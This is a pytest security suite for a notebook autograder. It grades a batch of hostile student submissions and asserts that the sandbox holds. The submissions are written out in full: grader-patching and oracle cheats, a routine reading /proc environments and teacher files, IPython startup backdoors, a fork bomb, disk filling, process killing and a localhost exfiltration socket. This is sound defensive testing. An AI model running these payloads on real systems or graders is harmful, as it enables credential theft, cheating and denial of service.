"""Hostile submissions, graded as a teacher grades a class: one batch, sandbox on.

Each submission is written as a student who wants to cheat or do harm would write it,
to assignment 1. Those built on the untouched student notebook deserve 0 points (selftest
checks that the untouched notebook scores 0): whatever they patch, forge or read, they
must score 0. Those built on the reference solution deserve full marks and try to harm the
teacher, the machine or a classmate beside answering: the harm must not happen, and the
honest classmates graded in the same batch keep their full marks. Every row must come
back, no secret (hidden tests, the solution, the teacher's environment and files) may
appear in anything the student gets, and nothing a notebook started may survive.
"""
import csv
import hashlib
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

import edujax
from edujax.grading.assign import assign_one
from edujax.grading.grade import grade_many, write_csv
from edujax.grading.runner import Limits
from edujax.grading.sandbox import SandboxUnavailable, check_available

EXERCISE = Path(__file__).parent.parent / "course-kit" / "exercises" / "01-grad-argnums"
LIMITS = Limits(timeout=60, cell_timeout=10, memory_mb=1500, cpu_seconds=120)
SECRET_ENV = "EDUJAX_TEACHER_TOKEN"
SECRET_VALUE = "tok-7f3a9c1e-teacher-only"
MARKER = "313.77"  # in the command line of every process a notebook leaves behind
HIDDEN_CODE = "seeded_arrays(1, (5, 3)"  # a hidden test's code (assignment 1, q1)
SOLUTION_CODE = "BEGIN SOLUTION"
EDUJAX_FILE = Path(edujax.__file__).parent / "grading" / "values.py"

# What every hostile notebook may use: {paths} are filled in by the fixture.
STEAL = ("def steal():\n"
         "    import glob, os\n"
         "    found = []\n"
         "    for pattern in ['{dist}/**/*', '{teacher}/*', '/proc/*/environ', '/proc/*/cmdline',\n"
         "                    '/tmp/**/*.py', '/tmp/**/*.zip', '/root/*', '/home/*/*']:\n"
         "        for p in glob.glob(pattern, recursive=True)[:200]:\n"
         "            try:\n"
         "                found.append(open(p, errors='replace').read()[:5000])\n"
         "            except Exception:\n"
         "                pass\n"
         "    return ' '.join(found) + ' ' + repr(dict(os.environ))\n")

# name -> (base, {question: answer cell source}, extra cells appended at the end)
# base "student": deserves 0; base "solution": deserves 6/6.
CASES = {
    # --- patching the checks
    "patch-assert-close": ("student", {"q1": (
        "import edujax.grading as g, edujax.grading.values as v\n"
        "g.assert_close = v.assert_close = lambda *a, **k: None\n"
        "g.call = lambda f, *a, **k: 0.0\n"
        "def loss(w, x, y):\n    return 0.0")}, []),
    "patch-numpy-isclose": ("student", {"q1": (
        "import numpy as np\nnp.isclose = lambda *a, **k: np.array(True)\n"
        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
        "def loss(w, x, y):\n    return 0.0")}, []),
    "patch-otter-checker": ("student", {"q1": (
        "import otter\n"
        "class Pass:\n    def check(self, *a, **k):\n        return 'All tests passed!'\n"
        "otter.Notebook = Pass\ngrader = Pass()\n"
        "try:\n    from otter.execute import Checker\n"
        "    Checker.check = classmethod(lambda cls, *a, **k: None)\n"
        "except Exception:\n    pass")}, []),
    "patch-builtins": ("student", {"q1": (
        "import builtins\n_real = builtins.isinstance\n"
        "builtins.AssertionError = type('Nope', (Exception,), {})\n"
        "builtins.abs = lambda x: 0\nbuiltins.max = lambda *a, **k: 0\n"
        "def loss(w, x, y):\n    return 0.0")}, []),
    "patch-sys-modules": ("student", {"q1": (
        "import sys, types\nfake = types.ModuleType('edujax.grading')\n"
        "fake.assert_close = fake.call = fake.assert_type = lambda *a, **k: None\n"
        "sys.modules['edujax.grading'] = fake\n"
        "def loss(w, x, y):\n    return 0.0")}, []),
    # --- an oracle without patching
    "oracle-frames-array": ("student", {"q1": (
        "import sys, numpy as np\n"
        "class Oracle:\n"
        "    shape, dtype, ndim = (), np.dtype('float32'), 0\n"
        "    def __array__(self, *a, **k):\n"
        "        f = sys._getframe(1)\n"
        "        while f is not None:\n"
        "            for k2 in ('expected', 'desired', 'b'):\n"
        "                if k2 in f.f_locals:\n"
        "                    return np.asarray(f.f_locals[k2])\n"
        "            f = f.f_back\n"
        "        return np.zeros(())\n"
        "def loss(w, x, y):\n    return Oracle()")}, []),
    "oracle-always-equal": ("student", {"q1": (
        "class Equal(float):\n    def __eq__(self, o): return True\n"
        "    def __ne__(self, o): return False\n    def __sub__(self, o): return 0.0\n"
        "    def __abs__(self): return 0.0\n"
        "def loss(w, x, y):\n    return Equal(0.0)")}, []),
    "oracle-gc-objects": ("student", {"q1": (
        "import gc\n"
        "def loss(w, x, y):\n"
        "    for o in gc.get_objects():\n"
        "        if isinstance(o, dict) and 'expected' in o:\n"
        "            return o['expected']\n"
        "    return 0.0")}, []),
    # --- forged results
    "forge-result-files": ("student", {"q1": (
        "import os, json, pickle, glob\n"
        "row = {'name': 'q1', 'score': 600.0, 'possible': 2.0, 'feedback': ''}\n"
        "here = ['.', '..', '/tmp', os.path.expanduser('~')]\n"
        "for d in here + glob.glob('/tmp/edujax-grade-*'):\n"
        "    for n in ('progress.jsonl', 'result.json', 'results.pkl'):\n"
        "        try:\n"
        "            open(os.path.join(d, n), 'w').write(json.dumps(row) + '\\n')\n"
        "        except Exception:\n"
        "            pass")}, []),
    "forge-protocol-reply": ("student", {"q1": (
        "import os, json\n"
        "fake = {'value': {'t': 'float', 'v': '2.4166667'}}\n"
        "for fd in range(3, 20):\n"
        "    try:\n"
        "        os.write(fd, (json.dumps(fake) + '\\n').encode() * 3)\n"
        "    except OSError:\n"
        "        pass\n"
        "def loss(w, x, y):\n    return 0.0")}, []),
    "forge-then-kill-self": ("student", {"q1": (
        "import os, signal\n"
        "open('progress.jsonl', 'w').write('{\"name\": \"q1\", \"score\": 2, \"possible\": 2, "
        "\"feedback\": \"\"}\\n')\n"
        "os.kill(os.getpid(), signal.SIGKILL)")}, []),
    "swap-test-files": ("student", {"q1": (
        "import glob\n"
        "for p in glob.glob('/**/tests/q*.py', recursive=True)[:50]:\n"
        "    try:\n"
        "        open(p, 'w').write('OK_FORMAT = True\\ntest = {\"name\": \"q1\", \"points\": 2, "
        "\"suites\": []}\\n')\n"
        "    except Exception:\n"
        "        pass\n"
        "def loss(w, x, y):\n    return 0.0")}, []),
    "extra-and-duplicate-questions": ("student", {"q1": (
        "def loss(w, x, y):\n    return 0.0")},
        ['grader.check("q1")', 'grader.check("q99")', 'grader.check("../tests/q1")']),
    # --- reading secrets (and raising them into the feedback)
    "secrets-into-feedback": ("student", {"q1": STEAL + (
        "def loss(w, x, y):\n    raise ValueError(steal()[:900])")}, []),
    "secrets-as-answer": ("student", {"q1": STEAL + (
        "def loss(w, x, y):\n    return steal()")}, []),
    "secrets-printed": ("student", {"q1": STEAL + "print(steal())\nraise RuntimeError(steal())"},
                        []),
    "secrets-by-socket": ("solution", {}, [
        "import socket\n"
        "for host in ('127.0.0.1', 'localhost', '10.0.2.2'):\n"
        "    try:\n"
        "        s = socket.create_connection((host, {port}), timeout=2)\n"
        "        s.sendall(b'stolen hidden tests')\n"
        "    except OSError as e:\n"
        "        print('no network:', e)"]),
    "secrets-env": ("student", {"q1": (
        "import os\n"
        "def loss(w, x, y):\n"
        "    raise KeyError(os.environ.get('" + SECRET_ENV + "', 'none') + "
        "open('/proc/1/environ', errors='replace').read())")}, []),
    # --- harm after or beside grading
    "setsid-survivor-rewrites-csv": ("solution", {}, [
        "import os, subprocess\n"
        "subprocess.Popen(['sh', '-c', 'sleep " + MARKER + "; echo pwned > {csv}'],\n"
        "                 start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        import time\n"
        "        time.sleep(8)\n"
        "        open('{csv}', 'w').write('pwned')\n"
        "    os._exit(0)"]),
    "edits-classmates": ("solution", {}, [
        "import glob\n"
        "for p in glob.glob('{submissions}/honest-*.ipynb') + glob.glob('/tmp/**/*.ipynb', "
        "recursive=True)[:50]:\n"
        "    try:\n"
        "        open(p, 'w').write('{{}}')\n"
        "    except Exception as e:\n"
        "        print(e)"]),
    "backdoors-ipython-and-edujax": ("solution", {}, [
        "import os\n"
        "for p in [os.path.expanduser('~/.ipython/profile_default/startup/00-evil.py'),\n"
        "          '{host_home}/.ipython/profile_default/startup/00-evil.py',\n"
        "          '{edujax_file}']:\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(p), exist_ok=True)\n"
        "        open(p, 'a').write('\\nimport os; os.system(\"touch /tmp/pwned\")\\n')\n"
        "    except Exception as e:\n"
        "        print(e)"]),
    "fills-the-disk": ("solution", {}, [
        "import os\nblock = b'x' * (1 << 20)\n"
        "for folder in ('.', '/tmp', '/dev/shm', '{teacher}'):\n"
        "    try:\n"
        "        with open(os.path.join(folder, 'big.bin'), 'wb') as f:\n"
        "            for _ in range(480):\n"
        "                f.write(block)\n"
        "    except Exception as e:\n"
        "        print(folder, e)"]),
    "fork-bomb": ("solution", {}, [
        "import os, time\n"
        "pids = []\n"
        "for _ in range(200):\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        break\n"
        "    if pid == 0:\n"
        "        time.sleep(300)\n"
        "        os._exit(0)\n"
        "    pids.append(pid)\n"
        "print(len(pids), 'processes')"]),
    "memory-in-children": ("solution", {}, [
        "import multiprocessing as mp, time\n"
        "def hog():\n"
        "    block = bytearray(1200 * 1024 * 1024)\n"
        "    for i in range(0, len(block), 4096):\n"
        "        block[i] = 1\n"
        "    time.sleep(60)\n"
        "ps = [mp.get_context('fork').Process(target=hog) for _ in range(3)]\n"
        "[p.start() for p in ps]\n"
        "time.sleep(30)"]),
    # --- stopping the grader
    "kills-the-grader": ("solution", {}, [
        "import os, signal\n"
        "for pid in [os.getppid(), 1, -1]:\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except Exception as e:\n"
        "        print(e)"]),
    "floods-the-pipe": ("student", {"q1": (
        "import os\n"
        "for fd in range(3, 20):\n"
        "    try:\n"
        "        os.write(fd, b'[' * (80 * 1024 * 1024))\n"
        "    except OSError:\n"
        "        pass")}, []),
    "ignores-every-interrupt": ("solution", {}, [
        "import signal\n"
        "for s in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        "while True:\n    pass"]),
}
HONEST = ["honest-1", "honest-2", "honest-3"]


def _unavailable() -> str | None:
    try:
        check_available()
    except SandboxUnavailable as error:
        return str(error)
    return None


pytestmark = pytest.mark.skipif(_unavailable() is not None,
                                reason=f"the grading sandbox cannot run here: {_unavailable()}")


def _fill(text: str, paths: dict) -> str:
    for key, value in paths.items():
        text = text.replace("{" + key + "}", str(value))
    return text.replace("{{}}", "{}")


def build(name: str, assignment, folder: Path, paths: dict) -> Path:
    from edujax.grading.selftest import wrong_notebook

    base, answers, extra = CASES[name]
    source = assignment.student if base == "student" else assignment.solution
    target = folder / f"{name}.ipynb"
    wrong_notebook(source, {q: _fill(a, paths) for q, a in answers.items()}, target)
    nb = nbformat.read(target, as_version=4)
    nb.cells += [nbformat.v4.new_code_cell(_fill(cell, paths)) for cell in extra]
    nbformat.write(nb, target)
    return target


class Listener:
    """A TCP server on the grader's 127.0.0.1: no notebook may reach it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(1000) or b"(connected)")
            connection.close()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("security")
    assignment = assign_one(EXERCISE, tmp / "dist")
    teacher = tmp / "teacher"
    teacher.mkdir()
    (teacher / "notes.txt").write_text(f"grades and {SECRET_VALUE}")
    submissions = tmp / "submissions"
    submissions.mkdir()
    listener = Listener()
    csv_path = tmp / "grades.csv"
    paths = {"dist": tmp / "dist", "teacher": teacher, "submissions": submissions,
             "csv": csv_path, "port": listener.port, "host_home": Path.home(),
             "edujax_file": EDUJAX_FILE}
    built = {name: build(name, assignment, submissions, paths) for name in CASES}
    for name in HONEST:
        built[name] = submissions / f"{name}.ipynb"
        built[name].write_bytes(assignment.solution.read_bytes())
    fifo = submissions / "a-fifo.ipynb"
    os.mkfifo(fifo)
    built["fifo-submission"] = fifo
    before = {"edujax": _digest(EDUJAX_FILE),
              "honest": {n: _digest(built[n]) for n in HONEST},
              "startup": (Path.home() / ".ipython/profile_default/startup/00-evil.py").exists()}
    os.environ[SECRET_ENV] = SECRET_VALUE
    start = time.perf_counter()
    try:
        results = grade_many(list(built.values()), assignment.autograder, limits=LIMITS, jobs=3)
    finally:
        del os.environ[SECRET_ENV]
    elapsed = time.perf_counter() - start
    write_csv(results, csv_path)
    written = csv_path.read_bytes()
    time.sleep(10)  # anything left behind that meant to rewrite the CSV has had its chance
    with open(csv_path, newline="", encoding="utf-8") as f:
        rows = {Path(row["submission"]).name: row for row in csv.DictReader(f)}
    return {"rows": rows, "built": built, "before": before, "listener": listener,
            "csv": csv_path, "written": written, "elapsed": elapsed, "tmp": tmp,
            "teacher": teacher, "assignment": assignment}


def row(graded, name):
    return graded["rows"][graded["built"][name].name]


def test_the_batch_completes_with_every_row(graded):
    assert len(CASES) >= 25
    assert set(graded["rows"]) == {p.name for p in graded["built"].values()}
    assert graded["elapsed"] < 300, f"the batch took {graded['elapsed']:.0f} s"


@pytest.mark.parametrize("name", [n for n, c in CASES.items() if c[0] == "student"])
def test_cheating_earns_nothing(graded, name):
    r = row(graded, name)
    assert float(r["total"]) == 0, r
    for q in ("q1", "q2", "q3"):
        assert 0 <= float(r[q]) <= 2


@pytest.mark.parametrize("name", list(CASES) + ["fifo-submission"])
def test_no_secret_reaches_what_the_student_gets(graded, name):
    r = row(graded, name)
    everything = " ".join(r.values())  # the teacher's columns too: the student never read it
    for secret in (SECRET_VALUE, HIDDEN_CODE, SOLUTION_CODE, "hidden data)", "_x @ _w"):
        assert secret not in everything, (secret, r)


def test_honest_classmates_keep_full_marks_and_their_files(graded):
    for name in HONEST:
        r = row(graded, name)
        assert (r["status"], r["total"], r["flags"]) == ("graded", "6", ""), r
        assert _digest(graded["built"][name]) == graded["before"]["honest"][name]


@pytest.mark.parametrize("name", [n for n, c in CASES.items()
                                  if c[0] == "solution" and n not in
                                  ("ignores-every-interrupt", "memory-in-children")])
def test_harm_beside_a_correct_answer_changes_nothing_else(graded, name):
    r = row(graded, name)  # (a notebook that ends its own process is "stopped", its
    assert float(r["total"]) == 6, r  # questions checked before keep their scores)


def test_no_network_reaches_the_grader_machine(graded):
    assert graded["listener"].received == []


def test_nothing_outside_its_folder_changed(graded):
    assert _digest(EDUJAX_FILE) == graded["before"]["edujax"]
    startup = Path.home() / ".ipython/profile_default/startup/00-evil.py"
    assert startup.exists() == graded["before"]["startup"]
    assert not Path("/tmp/pwned").exists()
    assert not (graded["teacher"] / "big.bin").exists()
    assert not Path("/dev/shm/big.bin").exists()
    assert graded["csv"].read_bytes() == graded["written"]  # not rewritten afterwards


def test_no_process_a_notebook_started_survives(graded):
    leftovers = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes()
        except OSError:
            continue
        if MARKER.encode() in text or b"edujax.grading.student_side" in text:
            leftovers.append((cmdline.parent.name, text[:80]))
    assert not leftovers


def test_a_notebook_that_hangs_or_hogs_memory_is_stopped_and_said_so(graded):
    hang = row(graded, "ignores-every-interrupt")
    assert hang["status"] == "timed out" and "did not answer" in hang["message"], hang
    assert float(hang["total"]) == 6  # its questions were checked before the last cell
    hog = row(graded, "memory-in-children")
    assert hog["status"] == "stopped" and "over the limit" in hog["message"], hog


def test_a_fifo_is_refused_not_waited_for(graded):
    r = row(graded, "fifo-submission")
    assert r["status"] == "not gradable" and float(r["total"]) == 0


def test_flags_name_what_the_notebooks_tried(graded):
    assert "frames" in row(graded, "oracle-frames-array")["flags"]
    assert "grading internals" in row(graded, "patch-assert-close")["flags"]
    assert "processes" in row(graded, "kills-the-grader")["flags"]
    assert "sockets" in row(graded, "secrets-by-socket")["flags"]
    assert "/proc" in row(graded, "secrets-env")["flags"]


def test_the_grader_itself_never_fails(graded):
    statuses = {name: row(graded, name)["status"] for name in graded["built"]}
    assert "error" not in statuses.values(), statuses
    assert statuses["fork-bomb"] == "graded"  # 64 processes at most, and no more memory
